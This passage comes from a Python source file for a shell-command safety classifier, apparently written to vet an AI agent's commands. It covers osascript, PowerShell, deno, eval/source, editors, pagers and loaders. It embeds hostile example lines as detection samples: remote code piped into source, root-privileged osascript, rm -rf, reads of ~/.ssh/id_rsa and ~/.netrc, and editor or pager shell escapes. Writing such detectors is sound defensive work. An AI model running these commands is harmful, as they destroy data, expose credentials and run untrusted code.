OSASCRIPT = next(p for p in GENERIC if p.name == "osascript")
OSASCRIPT_HOOK = OSASCRIPT.hook


@emits(dict(OSASCRIPT_HOOK.emits, **{
    "osascript.admin": ["osascript -e 'do shell script \"id\" with administrator privileges'",
                        "osascript -l JavaScript -e 'app.doShellScript(\"id\", {administratorPrivileges: true})'"],
    "osascript.shell": ["osascript -e 'do shell script \"rm -rf ~/x\"'"]}))
def osascript_line(cmd, o: Options) -> None:
    """osascript: AppleScript given with -e (or on its input); `with administrator privileges` takes root
    (a password dialog), and the text of `do shell script` is judged as shell code."""
    OSASCRIPT_HOOK(cmd, o)
    texts = o.all("e") + ([cmd.part.stdin_code] if cmd.part is not None and cmd.part.stdin_code else [])
    text = "\n".join(texts)
    if OSA_ADMIN.search(text):
        cmd.does("privilege", "osascript.admin", "osascript runs a shell script with administrator privileges (root)")
    for m in OSA_SHELL.finditer(text):
        script = (m.group(1) if m.group(1) is not None else m.group(3)).replace('\\"', '"').replace("\\\\", "\\")
        if script.strip() and UNKNOWN not in script:
            cmd.fired.add("osascript.shell")
            cmd.code_text(script, "osascript's do shell script runs")


OSASCRIPT.hook = osascript_line

# PowerShell: parameters in any case, abbreviated to any unique prefix, one dash.
PWSH_VALUES = ("command", "encodedcommand", "file", "executionpolicy", "windowstyle", "workingdirectory",
               "configurationname", "configurationfile", "outputformat", "inputformat", "custompipename",
               "settingsfile", "version")
PWSH_ALIASES = {"c": "command", "e": "encodedcommand", "ec": "encodedcommand", "enc": "encodedcommand",
                "f": "file", "ex": "executionpolicy", "ep": "executionpolicy", "w": "windowstyle",
                "wd": "workingdirectory", "o": "outputformat", "of": "outputformat", "if": "inputformat",
                "v": "version", "nop": "noprofile", "noni": "noninteractive"}
PWSH_FLAGS = ("noprofile", "noninteractive", "nologo", "noexit", "login", "interactive", "sta", "mta", "help",
              "noprofileloadtime")


def _pwsh_parameter(word: str) -> str | None:
    name = word[1:].lower().split(":", 1)[0]
    if name in PWSH_ALIASES:
        return PWSH_ALIASES[name]
    matches = [known for known in PWSH_VALUES + PWSH_FLAGS if known.startswith(name)]
    return matches[0] if len(matches) == 1 else None


@emits({"pwsh.inline": ["pwsh -Command 'Get-Item x'", "pwsh -NoProfile -c ls"],
        "pwsh.encoded": ["pwsh -EncodedCommand ZQBjAGgAbwA="], "pwsh.script": ["pwsh -File x.ps1", "pwsh x.ps1"],
        "pwsh.stdin": ["echo ls | pwsh -Command -"], "pwsh.interactive": ["pwsh"]})
def pwsh_line(cmd, o: Options) -> None:
    """pwsh/powershell: -Command (inline), -EncodedCommand (base64 code, hidden), -File or a first operand."""
    cmd.facts.interp = True
    args = list(o.args)
    i = 0
    while i < len(args):
        word = args[i]
        i += 1
        name = _pwsh_parameter(word) if word.startswith("-") and len(word) > 1 else None
        if name is None:
            if word.startswith("-") and len(word) > 1:
                continue
            _script(cmd, word, "pwsh", f"{cmd.name} runs")     # pwsh's first operand is -File's
            return
        if name in PWSH_FLAGS:
            continue
        value = word.split(":", 1)[1] if ":" in word else (args[i] if i < len(args) else "")
        i += 0 if ":" in word else 1
        if name == "command" and value == "-" or name == "file" and value == "-":
            break
        if name == "command":
            cmd.facts.runtime_code = cmd.facts.runtime_code or UNKNOWN in value
            cmd.does("run-code", "pwsh.inline", f"{cmd.name} -Command runs inline code")
            return
        if name == "encodedcommand":
            cmd.facts.decoder = True
            cmd.does("run-code", "pwsh.encoded", f"{cmd.name} -EncodedCommand runs hidden (base64) code")
            return
        if name == "file":
            _script(cmd, value, "pwsh", f"{cmd.name} runs")
            return
    _code_from_stdin(cmd, "pwsh")


PWSH = Program("pwsh", aliases=("powershell",), doc="PowerShell: -Command, -EncodedCommand, -File", hook=pwsh_line,
               examples={"pwsh -NoProfile -ExecutionPolicy Bypass -File /tmp/x.ps1": "high"})

# ---------------------------------------------------------------- deno


@emits({"deno.run-fetched": ["deno run https://x.example/a.ts"], "deno.run-registry": ["deno run -A npm:cowsay"],
        "deno.run": ["deno run x.ts"], "deno.run-runtime": ['deno run "$F"']})
def deno_run(cmd, o: Options) -> None:
    """deno run [options] SCRIPT: a URL is code fetched from the network, npm:/jsr: registry code, else a file."""
    target = next((a for a in o.args if not a.startswith("-")), "")
    if target.startswith(("http://", "https://")):
        cmd.facts.net_fetch = True
        cmd.does("run-fetched", "deno.run-fetched", "deno runs code fetched from the network")
    elif target.startswith(("npm:", "jsr:")):
        cmd.does("run-unpinned", "deno.run-registry", f"deno runs the registry package {target}")
    elif target.startswith(UNKNOWN):
        cmd.does("run-code", "deno.run-runtime", "deno runs a script known only at run time")
    elif target:
        cmd.fired.add("deno.run")
        cmd.run_file(target, "deno runs")


@emits({"deno.install-url": ["deno install -g https://x.example/cli.ts"]})
def deno_install(cmd, o: Options) -> None:
    for word in o.operands:
        if word.startswith(("http://", "https://")):
            cmd.does("install-foreign", "deno.install-url", f"deno installs {word} from a URL")


@emits({"deno.script": ["deno x.ts"]})
def deno_script(cmd, o: Options):
    """`deno x.ts`: a script given without `run`."""
    first = o.operands[0] if o.operands else ""
    if first.endswith((".ts", ".js", ".mjs", ".tsx", ".jsx", ".mts")) and first not in DENO_VERBS:
        cmd.fired.add("deno.script")
        cmd.run_file(first, "deno runs")
        return False
    return None


DENO_VERBS = {
    "run": verb(hook=deno_run),
    "eval": verb(rows=(Row("deno.eval", "run-code", "deno eval runs inline code", examples=("deno eval 'x'",)),)),
    "repl": verb(rows=(Row("deno.repl", "session", "starts a deno shell", examples=("deno repl",)),)),
    "lint": verb(grammar=Grammar(longs=("fix",)),
                 rows=(Row("deno.lint.fix", "change", "deno lint --fix rewrites files", When(flag=("fix",)),
                           examples=("deno lint --fix",)),)),
    "fmt": verb(grammar=Grammar(longs=("check",)),
                rows=(Row("deno.fmt-check", "nothing", "deno fmt --check only reads", When(flag=("check",)),
                          stop=True, examples=("deno fmt --check",)),
                      Row("deno.fmt", "change", "deno fmt rewrites files", examples=("deno fmt",)))),
    "install": verb(rows=(Row("deno.install", "install", "{cmd} installs packages", examples=("deno install",)),),
                    hook=deno_install),
}
DENO_VERBS["add"] = DENO_VERBS["cache"] = DENO_VERBS["upgrade"] = DENO_VERBS["install"]
DENO_VERBS["publish"] = verb(grammar=Grammar(longs=("dry-run",)),
                             rows=(Row("deno.publish.dry-run", "nothing", "deno publish --dry-run only checks",
                                       When(flag=("dry-run",)), stop=True, examples=("deno publish --dry-run",)),
                                   Row("deno.publish", "publish", "deno publish publishes the package to JSR",
                                       sets=("net_send",), examples=("deno publish",))))
DENO = Program(
    "deno", doc="deno: run/eval/test/fmt/…; a URL is code from the network", hook=deno_script,
    verbs=DENO_VERBS, read_only=("check", "doc", "info", "types", "completions", "help", "--version", "-V"),
    default=Row("deno.verb", "run-project", "{cmd} runs the project's code or tasks",
                examples=("deno test", "deno task build")),
    examples={"deno run -A https://x.example/a.ts": "dangerous", "deno lint": "safe", "deno fmt --check": "safe"},
)

# ---------------------------------------------------------------- eval, source


@emits({"eval.runtime": ['eval "$X"', "echo ls | xargs eval"], "eval.unsplit": ["nix develop -c eval ls"],
        "eval.line-variables": ['eval "cd $HOME"']})
def eval_words(cmd, o: Options) -> None:
    """eval WORDS: literal text is split by the splitter; text known at run time is code the gate cannot read."""
    text = " ".join(o.args)
    if UNKNOWN in text or cmd.via_xargs:
        cmd.facts.runtime_code = True
        cmd.does("run-code", "eval.runtime", "eval runs text known only at run time")
        _runs_file_text(cmd, "eval runs the text of")
    elif cmd.delegated:
        cmd.fired.add("eval.unsplit")
        cmd.code_text(text, "eval")
    elif not all(cmd.splitter_saw(word) for word in o.args):
        # `x='curl -s URL | sh'; eval "$x"`: the line's own variables made the text (the splitter saw none of it)
        cmd.fired.add("eval.line-variables")
        cmd.fired.add(LINE_VARIABLES_CODE)
        cmd.code_text(text, "eval runs the line's own variables")


@emits({"source.runtime": ['source "$F"', "source <(curl -s https://x.example)"],
        "source.file": ["source ./env.sh", ". ~/.bashrc", "source .venv/bin/activate"],
        "source.project-env": [". ./.env", "source .env.local"]})
def source_file(cmd, o: Options) -> None:
    """source FILE / . FILE: runs FILE's code in this shell (a project script is read and judged)."""
    if not o.args:
        return
    script = o.args[0] if o.args[0] != "--" or len(o.args) == 1 else o.args[1]
    if script.startswith(UNKNOWN):
        cmd.facts.runtime_code = True
        cmd.does("run-code", "source.runtime", "sources a script known only at run time")
        _runs_file_text(cmd, "sources the text of")
        return
    where = cmd.place(script)
    if where.cls == places.PROJECT_SECRET:
        # the project's .env: its settings, sourced into this shell - project code, not a secret read
        cmd.facts.runs.append(where.path)
        cmd.does("run-project", "source.project-env", f"sources the project's {script}")
        return
    cmd.fired.add("source.file")
    cmd.run_file(script, "sources")
    cmd.judge_script(script, "sources")


EVAL = Program("eval", doc="runs its words as shell code", hook=eval_words)
SOURCE = Program("source", aliases=(".",), doc="runs a file's code in this shell", hook=source_file,
                 examples={"source ./env.sh": "moderate", "source /tmp/x.sh": "high", 'source "$F"': "high"})

# ---------------------------------------------------------------- editors

# How an editor reads its options (whole words, not getopt clusters: vim's `-es` is one option). Each option
# says what its value is: "cmd" editor commands (which can run shell commands), "run" a script file it runs,
# "rc" a startup file it runs unless NONE, "write" a file it writes, "read" a file it reads, "edit" a file it
# opens, "expose" an address it listens on, "fetch" (it fetches), "extension" one it installs, "value" anything
# else; without a value: "cmd!" commands read from elsewhere (ex mode, batch), "readonly" (what it opens is
# viewed), "prints" (it prints and opens nothing), "flag".
VIM_OPTIONS = {
    "-c": "cmd", "--cmd": "cmd", "-S": "run", "-s": "cmd", "-u": "rc", "-U": "rc", "-w": "write", "-W": "write",
    "-i": "write", "--startuptime": "write", "--log": "write", "-T": "value", "-t": "value",
    "-q": "value", "-r": "value", "--servername": "value", "--remote-send": "cmd", "--remote-expr": "cmd",
    "-l": "run", "--listen": "expose", "-e": "cmd!", "-E": "cmd!", "-es": "cmd!", "-Es": "cmd!", "-R": "readonly",
    "-M": "readonly", "-Z": "flag", "--headless": "flag", "-d": "flag", "-b": "flag", "-n": "flag", "-N": "flag",
    "--clean": "flag", "--noplugin": "flag", "-p": "flag", "-o": "flag", "-O": "flag", "-y": "flag",
}
EMACS_OPTIONS = {
    "--eval": "cmd", "-eval": "cmd", "-l": "run", "--load": "run", "-load": "run", "-f": "cmd", "--funcall": "cmd",
    "-funcall": "cmd", "--batch": "cmd!", "-batch": "cmd!", "--script": "run", "-script": "run", "-x": "cmd!",
    "-u": "rc", "--user": "rc", "--init-directory": "rc", "-L": "value", "--directory": "value",
    "--insert": "read", "--chdir": "value", "--dump-file": "run", "-t": "value", "-d": "value", "--display": "value",
    "--daemon": "flag", "--fg-daemon": "flag", "-q": "flag", "-Q": "flag", "-nw": "flag", "--no-init-file": "flag",
    "--visit": "edit", "--file": "edit", "--find-file": "edit",
}
EMACSCLIENT_OPTIONS = {"-e": "cmd", "--eval": "cmd", "-a": "cmd", "--alternate-editor": "cmd", "-s": "value",
                       "--socket-name": "value", "-f": "read", "--server-file": "read", "-d": "value",
                       "--display": "value", "-T": "value", "--tramp": "value", "-H": "value", "-c": "flag",
                       "-t": "flag", "-n": "flag", "-q": "flag", "-u": "flag", "-nw": "flag"}
NANO_OPTIONS = {"-s": "cmd", "--speller": "cmd", "-f": "cmd", "--rcfile": "cmd", "-C": "write", "--backupdir": "write",
                "-o": "value", "--operatingdir": "value", "-Y": "value", "--syntax": "value", "-T": "value",
                "-r": "value", "-X": "value", "-Q": "value", "-J": "value", "-v": "readonly", "--view": "readonly"}
HELIX_OPTIONS = {"-c": "rc", "--config": "rc", "--log": "write", "-w": "value", "--working-dir": "value",
                 "-g": "fetch", "--grammar": "fetch"}
KAK_OPTIONS = {"-e": "cmd", "-E": "cmd", "-f": "cmd", "-p": "cmd!", "-c": "value", "-s": "value", "-ui": "value",
               "-debug": "value", "-i": "value", "-ro": "readonly", "-n": "flag", "-d": "flag", "-l": "prints"}
CODE_OPTIONS = {"--install-extension": "extension", "--uninstall-extension": "value", "--extensions-dir": "value",
                "--user-data-dir": "value", "--profile": "value", "--locale": "value", "-g": "edit", "--goto": "edit",
                "-d": "readonly", "--diff": "readonly", "-a": "edit", "--add": "edit", "--remove": "value",
                "--list-extensions": "prints", "--status": "prints", "--locate-shell-integration-path": "value"}
SUBL_OPTIONS = {"--command": "cmd", "--project": "read", "-a": "edit", "--add": "edit"}
CODE_SERVERS = ("tunnel", "serve-web")
VSCODES = ("code", "codium", "code-insiders", "cursor")


class Editor:
    """One editor's option table, and whether it only views."""

    __slots__ = ("options", "viewer", "positions")

    def __init__(self, options: dict, viewer: bool = False, positions: bool = True):
        self.options = options
        self.viewer = viewer        # `view`: opens files read-only
        self.positions = positions  # `+N`, `+/pattern` place the cursor


EDITORS = {
    "vim": Editor(VIM_OPTIONS), "vi": Editor(VIM_OPTIONS), "nvim": Editor(VIM_OPTIONS), "gvim": Editor(VIM_OPTIONS),
    "ex": Editor(VIM_OPTIONS), "vimdiff": Editor(VIM_OPTIONS), "view": Editor(VIM_OPTIONS, viewer=True),
    # vim's other names (vim(1)): rvim/rview only refuse `:!`, their :lua, :python, :perl still run code
    # (GTFOBins' rvim); evim is easy mode, vimx and gvimdiff the X builds
    "rvim": Editor(VIM_OPTIONS), "rview": Editor(VIM_OPTIONS, viewer=True), "evim": Editor(VIM_OPTIONS),
    "eview": Editor(VIM_OPTIONS, viewer=True), "gview": Editor(VIM_OPTIONS, viewer=True), "vimx": Editor(VIM_OPTIONS),
    "gvimdiff": Editor(VIM_OPTIONS), "nvim-qt": Editor(VIM_OPTIONS),
    "emacs": Editor(EMACS_OPTIONS), "emacsclient": Editor(EMACSCLIENT_OPTIONS), "nano": Editor(NANO_OPTIONS),
    "micro": Editor({}), "helix": Editor(HELIX_OPTIONS), "hx": Editor(HELIX_OPTIONS), "kak": Editor(KAK_OPTIONS),
    "code": Editor(CODE_OPTIONS), "codium": Editor(CODE_OPTIONS), "code-insiders": Editor(CODE_OPTIONS),
    "cursor": Editor(CODE_OPTIONS), "subl": Editor(SUBL_OPTIONS),
}
_POSITION = lazy_re(r"^\+(\d*|/.*|\d+:\d+|\d+,\d+)$")     # +10, +/pattern, +3:5: where the cursor starts
_VIM_VERBOSE = lazy_re(r"^-V\d*(.*)$")                    # -V[N][FILE]: FILE receives the verbose log


def _editor_words(spec: Editor, args: list[str]) -> tuple[list, list, list]:
    """(what, option, value) for each option, the files it opens, and its +CMD words."""
    options, files, commands = [], [], []
    i = 0
    while i < len(args):
        word = args[i]
        i += 1
        head, eq, attached = word.partition("=") if word.startswith("--") else (word, "", "")
        what = spec.options.get(head)
        if what is None and spec.options is VIM_OPTIONS and word.startswith("-V"):
            m = _VIM_VERBOSE.match(word)
            if m and m.group(1):
                options.append(("write", word, m.group(1)))
            continue
        if what is None:
            if word == "--":
                files.extend(args[i:])
                break
            if word.startswith("+") and spec.positions:
                if not _POSITION.match(word):
                    commands.append(word)       # +CMD: an editor command run at start
            elif not word.startswith("-") or word == "-":
                files.append(word)
            continue
        value = None
        if what not in ("cmd!", "readonly", "prints", "flag"):
            if eq:
                value = attached
            elif i < len(args):
                value = args[i]
                i += 1
            else:
                continue
        options.append((what, word, value))
    return options, files, commands


@emits({"editor.commands": ["vim -c ':!id' f", "vim +'!id' f", "emacs --eval '(shell-command \"id\")'",
                            "vim -es f", "emacsclient -a 'sh -c id' f"],
        "editor.script": ["vim -S /tmp/x.vim f", "emacs -l x.el"], "editor.rc": ["vim -u /tmp/vimrc f"],
        "editor.writes": ["vim -W ~/.bashrc f", "vim -i ~/.bashrc f", "vim -V20/tmp/log f"],
        "editor.reads": ["emacs --insert ~/.netrc f"], "editor.edits": ["vim f.txt", "nano ~/.bashrc", "code src"],
        "editor.views": ["view f", "vim -R f", "code --diff a b"], "editor.listens": ["nvim --listen 0.0.0.0:7777"],
        "editor.fetches": ["hx --grammar fetch"], "editor.extension": ["code --install-extension ms-python.python"],
        "editor.extension-file": ["code --install-extension ./x.vsix"], "editor.server": ["code tunnel"],
        "editor.opens": ["vim", "vim +10"]})
def editor_words(cmd, o: Options) -> None:
    """An editor's words: options that run editor commands or scripts, options that write files, and the files it
    opens - any of which it can save, so each is a write (a viewer's are reads, and still an editor's)."""
    spec = EDITORS[cmd.name]
    args = list(o.args)
    if cmd.name in VSCODES and args[:1] and args[0] in CODE_SERVERS:
        cmd.facts.net_send = True
        cmd.does("expose", "editor.server", f"{cmd.name} {args[0]} opens this machine to remote editors")
        return
    options, files, commands = _editor_words(spec, args)
    if spec.options is VIM_OPTIONS:
        commands = [word for word in commands if _vim_command(cmd, word, word[1:])]
    readonly, prints, installs = spec.viewer, False, False
    for what, word, value in options:
        if what == "cmd!":
            commands.append(word)
        elif what == "readonly":
            readonly = True
        elif what == "prints":
            prints = True
        elif what == "cmd":
            if spec.options is not VIM_OPTIONS or word not in ("-c", "--cmd") or _vim_command(cmd, value, value):
                commands.append(f"{word} {value}")
        elif what == "run":
            commands.append(word)
            cmd.fired.add("editor.script")
            cmd.run_file(value, f"{cmd.name} {word} runs")
        elif what == "rc" and value.upper() not in ("NONE", "NORC", "DEFAULTS", ""):
            cmd.fired.add("editor.rc")
            cmd.run_file(value, f"{cmd.name} runs the startup file")
        elif what == "write" and value.upper() != "NONE":
            cmd.fired.add("editor.writes")
            cmd.write(value, f"{cmd.name} {word} writes")
        elif what == "read":
            cmd.fired.add("editor.reads")
            cmd.read(value)
        elif what == "edit":
            files.append(value.rsplit(":", 2)[0] if word in ("-g", "--goto") else value)
        elif what == "expose":
            cmd.does("expose", "editor.listens", f"{cmd.name} listens for remote control at {value}")
        elif what == "fetch":
            cmd.facts.net_fetch = True
            cmd.does("fetch", "editor.fetches", f"{cmd.name} fetches and builds its grammars")
        elif what == "extension":
            installs = True
            if "/" in value or value.endswith(".vsix") or UNKNOWN in value:
                cmd.does("install-outside", "editor.extension-file", f"{cmd.name} installs the extension {value}")
            else:
                cmd.does("install", "editor.extension",
                         f"{cmd.name} installs the extension {value} from its marketplace")
    if commands:
        cmd.does("run-code", "editor.commands", f"{cmd.name} runs editor commands "
                                                f"({commands[0].replace(UNKNOWN, '…')}), which can run shell commands")
    files = [w for w in files if w not in (".", "-") and "://" not in w]
    if (prints or installs) and not files:
        return
    if not files:
        cmd.does("change", "editor.opens", f"opens {cmd.name} to edit files")
    for word in files:
        if readonly:
            cmd.does("change", "editor.views", f"opens {cmd.name} on files (it can still save them)")
            cmd.read(word)
        else:
            cmd.does("change", "editor.edits", f"opens {cmd.name} to edit files")
            cmd.write(word, f"{cmd.name} edits")    # whatever it opens, it can save


def _vim_command(cmd, word: str, text: str) -> bool:
    """One of vim's -c/--cmd/+ commands: the shell commands it runs (`:!CMD`, `r !CMD`, `call system('CMD')`)
    are judged as code (parts of their own, or here); False when it only quits (`-c q`, `+qa!`)."""
    if UNKNOWN in text:
        return True
    shells, other = config_code.ex_shell(text)
    for shell in shells:
        if shell.strip():
            cmd.runs_setting(shell, word, f"{cmd.name} runs")
    return bool(shells or other)


EDITOR_PROGRAMS = tuple(Program(name, doc=f"{name}: an editor; options that run commands or write files",
                                hook=editor_words) for name in EDITORS)

# ed reads its commands from its input. After an address: `!cmd` runs a shell command, `w FILE`/`W FILE`
# write, `r FILE`/`e FILE`/`E FILE` read; `w !cmd`, `r !cmd`, `e !cmd` pipe through a command; a/i/c take text
# up to a line that is a single `.`.
_ED_ADDRESS = lazy_re(r"^\s*(?:[0-9.$,;%+\-]|'[a-z]|/(?:\\.|[^/])*/?|\?(?:\\.|[^?])*\??)*")
_ED_GLOBAL = lazy_re(r"^[gGvV](.)(?:\\.|(?!\1).)*\1")


def ed_commands(script: str):
    """(command letter, argument) of each line of an ed script, text lines skipped."""
    in_text = False
    for line in script.split("\n"):
        if in_text:
            in_text = line != "."
            continue
        body = _ED_ADDRESS.sub("", line, count=1)
        glob = _ED_GLOBAL.match(body)
        if glob:
            body = body[glob.end():]        # g/re/COMMAND: the command runs on every match
        if not body:
            continue
        letter, rest = body[0], body[1:]
        if letter in "aic" and rest.strip() in ("", "\\"):
            in_text = True
            continue
        if letter in "wW" and rest.startswith("q"):
            rest = rest[1:]
        yield letter, rest.strip()


@emits({"ed.shell": ["ed f <<< '!id'", "ed '!id'", "ed f <<< 'w !sh'"],
        "ed.writes": ["ed f <<< 'w ~/.bashrc'", "ed -s f <<< '1,$W /tmp/out'"],
        "ed.reads": ["ed f <<< 'r ~/.ssh/id_rsa'"], "ed.input": ["echo x | ed f", "ed f < /tmp/cmds"],
        "ed.edits": ["ed f", "ed"]})
def ed_script(cmd, o: Options) -> None:
    """ed FILE: edits FILE; its commands come from its input (a heredoc, a project script file, a pipe)."""
    cmd.does("change", "ed.edits", "edits files with ed")
    for word in o.operands:
        if word.startswith("!"):
            cmd.does("run-code", "ed.shell", "ed reads the output of a shell command (!)")
        else:
            cmd.write(word, "ed edits")
    part = cmd.part
    script = part.stdin_code if part is not None else None
    if script is None:
        source = _stdin_file(cmd)
        if source is not None and not (part.pipeline is not None and part.stage > 0):
            status, text, _ = cmd.project_script(source)
            script = "" if status == "missing" else text
        if script is None:
            if stdin_fed(cmd):
                cmd.does("run-code", "ed.input", "ed runs the commands it is fed, which can run shell commands")
            return
    for letter, rest in ed_commands(script):
        if letter == "!" or letter in "wWrReE" and rest.startswith("!"):
            cmd.does("run-code", "ed.shell", "ed script runs shell commands (!)")
        elif letter in "wW" and rest:
            cmd.fired.add("ed.writes")
            cmd.write(rest, "ed writes")
        elif letter in "rReE" and rest:
            cmd.fired.add("ed.reads")
            cmd.read(rest)


ED = Program("ed", aliases=("red",), doc="the line editor: commands from its input", grammar=Grammar(values="p"),
             hook=ed_script)


# ---------------------------------------------------------------- pagers, man, debuggers, openers


@emits({"pager.shell": ["less +'!id' f", "more '+!id' f"], "pager.editor": ["less +v f"],
        "pager.reads": ["less f", "less ~/.ssh/id_rsa"]})
def pager_words(cmd, o: Options) -> None:
    """less/more/most: `+cmd` runs pager commands at start; `!`/`|` in them run a shell, `v` an editor."""
    for word in o.operands:
        if word.startswith("+"):
            body = word[1:].lstrip("0123456789")
            if "!" in word or "|" in word:
                cmd.does("run-code", "pager.shell", f"{cmd.name} {word} runs a shell command")
            elif body[:1] == "v":
                cmd.does("run-code", "pager.editor", f"{cmd.name} {word} starts the editor $VISUAL names")
            continue
        cmd.fired.add("pager.reads")
        cmd.read(word)


LESS_GRAMMAR = Grammar(values="bhjkoOpPtTxyz#D", long_values=(
    "log-file", "LOG-FILE", "lesskey-file", "lesskey-src", "lesskey-content", "tag", "tag-file", "pattern", "prompt",
    "shift", "tabs", "window", "max-back-scroll", "max-forw-scroll", "buffers", "jump-target", "color", "rscroll",
    "line-num-width", "status-col-width", "header", "intr", "wheel-lines", "quotes"))
LESS = Program(
    "less", doc="a pager; +cmd runs commands, -o writes a log, a lesskey file can set LESSOPEN",
    grammar=LESS_GRAMMAR,
    rows=(Row("less.lesskey-content", "run-code", "less --lesskey-content can set LESSOPEN, which runs a program",
              When(value=("lesskey-content",)), examples=("less --lesskey-content='#env\nLESSOPEN=|id' f",)),),
    on=(On("write", ("option", "o", "O", "log-file", "LOG-FILE"), id="less.log-file", says="less copies its input to",
           examples=("less -o ~/.bashrc f",)),
        On("run", ("option", "k", "lesskey-file", "lesskey-src"), id="less.lesskey",
           says="less reads key bindings and variables (LESSOPEN) from", examples=("less -k /tmp/keys f",)),
        On("read", ("option", "T", "tag-file"), id="less.tags", examples=("less -T tags -t main",))),
    hook=pager_words,
)
MORE = Program("more", aliases=("most",), doc="a pager; +cmd runs commands", grammar=Grammar(values="n"),
               hook=pager_words)


@emits({"man.pager": ["man -P 'sh -c id' ls", "man --pager=id ls", 'man -P "$P" ls'],
        "man.file-page": ["man ./docs/tool.1", "man ~/.ssh/id_rsa"],
        "man.plain-pager": ["man -P cat ls", "man --pager='less -R' ls"]})
def man_pager(cmd, o: Options) -> None:
    """-P/--pager CMD: man runs CMD on the page. A plain pager (`cat`, `less -R`) shows it; any other command
    runs code, judged too (parts of their own, or here). A page named with a slash is that file, shown."""
    if not o.has("l", "local-file"):
        for word in o.operands:
            if "/" in word:
                cmd.fired.add("man.file-page")
                cmd.read(word)
    for text in o.all("P", "pager"):
        if UNKNOWN in text:
            cmd.does("run-code", "man.pager", "man runs a pager command known only at run time")
            continue
        what, code = config_code.command_line(text)
        if what == config_code.PLAIN:
            cmd.fired.add("man.plain-pager")
            continue
        cmd.does("run-code", "man.pager", "man runs the pager command it is given")
        cmd.runs_setting(code, text, "man -P runs")


MAN = Program(
    "man", doc="shows manual pages through a pager; the pager, browser and config it is given run",
    grammar=Grammar(values="PCMmSseLRpEr", long_values=("pager", "config-file", "manpath", "systems", "sections",
                                                       "extension", "locale", "encoding", "preprocessor", "prompt"),
                    optional=("html",)),
    rows=(Row("man.browser", "run-code", "man -H runs the browser it is given (or $BROWSER)",
              When(flag=("H", "html")), examples=("man -H ls", "man --html=firefox ls")),
          Row("man.config", "run-code", "man reads the config file it is given, which names the programs it runs",
              When(value=("C", "config-file")), examples=("man -C /tmp/man.conf ls",))),
    on=(On("read", OPERANDS, when=When(flag=("l", "local-file")), id="man.local-file", examples=("man -l ./x.1",)),),
    hook=man_pager,
    examples={"man ls": "safe", "man -P cat ls": "safe", "man -P 'less -R' ls": "safe",
              "man -P 'sh -c id' ls": "high"},
)

DEBUG_COMMANDS = ("x", "ex", "batch", "command", "eval-command", "o", "one-line", "s", "source", "ix", "iex")
DEBUGGERS = tuple(Program(
    name, doc=f"{name}: a debugger; it attaches to and runs programs, and runs the commands it is given",
    grammar=Grammar(long_values=("command", "eval-command", "one-line", "source", "pid", "cd", "directory")),
    rows=(Row(f"{name}.commands", "run-code", f"{name} runs debugger commands",
              When(arg=tuple("-" + c for c in DEBUG_COMMANDS) + ("--command=", "--eval-command=")), stop=True,
              examples=(f"{name} -batch -ex run ./a.out" if name == "gdb" else f"{name} -o run ./a.out",)),
          Row(f"{name}.debug", "debug", f"{name} attaches to or runs a program under a debugger",
              examples=(f"{name} ./a.out",))),
) for name in ("gdb", "lldb"))
PDB = Program("pdb", aliases=("pdb3",), doc="the python debugger: runs the script it is given",
              rows=(Row("pdb.debug", "debug", "runs a script under the python debugger", examples=("pdb x.py",)),),
              on=(On("run", FIRST, id="pdb.script", says="pdb runs", examples=("pdb x.py",)),))


@emits({"open.app": ["open -a Calculator"], "open.link": ["open https://x.example"],
        "open.runs": ["open x.sh", "xdg-open x.desktop"], "open.outside": ["xdg-open ~/x.txt"],
        "open.project": ["open README.md"]})
def opener(cmd, o: Options) -> None:
    """open/xdg-open: hands a file or URL to its default application, which may run it (a script, an app)."""
    if o.value("a", "b") is not None or o.has("args"):
        cmd.does("session", "open.app", f"{cmd.name} starts an application")
    for word in o.operands:
        if "://" in word or word.startswith("mailto:"):
            cmd.does("inspect", "open.link", f"{cmd.name} opens a link")
            continue
        where = cmd.place(word)
        if word.endswith((".sh", ".command", ".app", ".tool", ".py", ".desktop", ".exe", ".bat", ".jar",
                          ".pkg", ".dmg", ".workflow", ".scpt", ".terminal")) or o.value("a", "b") is not None:
            cmd.fired.add("open.runs")
            cmd.run_file(word, f"{cmd.name} runs")
        elif where.cls not in PROJECT + (places.TEMP,):
            cmd.does("inspect", "open.outside", f"{cmd.name} opens {word}")
        else:
            cmd.fired.add("open.project")


OPENERS = Program("open", aliases=("xdg-open", "gio-open"), doc="opens files and links with their application",
                  grammar=Grammar(values="abW", long_values=("args",)), hook=opener)

LOADERS = Program(
    "ld.so", aliases=("ld-linux.so.2", "ld-linux-x86-64.so.2", "ld-linux-aarch64.so.1", "ld-musl-x86_64.so.1",
                      "ld-musl-aarch64.so.1"),
    doc="the dynamic loader: runs any file as a program (no exec bit needed)",
    grammar=Grammar(long_values=("library-path", "preload", "audit", "argv0", "inhibit-rpath"), stop=True),
    rows=(Row("ld.so.loads", "run-code", "{cmd} loads the libraries it is given",
              When(value=("preload", "audit", "library-path")), examples=("ld.so --preload /tmp/x.so ./a",)),
          Row("ld.so.runtime", "run-code", "{cmd} runs a program known only at run time", When(first=(UNKNOWN,)),
              examples=('ld.so "$X"',))),
    on=(On("run", FIRST, id="ld.so.runs", examples=("ld.so ./a",)),),
)

# PowerShell's own words, when a shell line names them (an agent's pwsh habits)


@emits({"iex.stdin": ["echo x | iex"], "iex.interactive": ["iex"]})
def iex_input(cmd, o: Options) -> None:
    """With no text, Invoke-Expression runs what it is fed."""
    cmd.facts.interp = True
    if not o.operands:
        _code_from_stdin(cmd, "iex")


IEX = Program("iex", aliases=("Invoke-Expression",), doc="PowerShell's eval",
              rows=(Row("iex.code", "run-code", "{cmd} runs the text it is given as code", When(operands=True),
                        sets=("runtime_code",), examples=("iex 'x'",)),),
              hook=iex_input)
IWR = Program("iwr", aliases=("irm", "Invoke-WebRequest", "Invoke-RestMethod"), doc="PowerShell's web requests",
              rows=(Row("iwr.fetch", "fetch", "reads the network", sets=("net_fetch",),
                        examples=("iwr https://x.example",)),))

# ---------------------------------------------------------------- shell builtins

SUBSCRIPT_CODE = lazy_re(r"\[[^\]]*(\$\(|`)")
DECLARERS = ("export", "declare", "typeset", "local", "readonly")


@emits({"builtin.subscript": ["read -r 'a[$(id)]'", "test 'a[$(id)]' -eq 1", "let 'x=$(id)'",
                              "printf -v 'a[$(id)]' x"],
        "builtin.prints-environment": ["export", "declare -p", "set"], "export.function": ["export -f myfunc"],
        "builtin.unset-wisp": ["unset WISP_HOME", "export -n WISP_X"]})
def builtin_words(cmd, o: Options) -> None:
    """declare/export/local/read/test/let/printf -v …: assignments and subscripts the shell evaluates."""
    args = list(o.args)
    words = [args[i + 1] for i, a in enumerate(args[:-1]) if a == "-v"] if cmd.name == "printf" else args
    for arg in words:
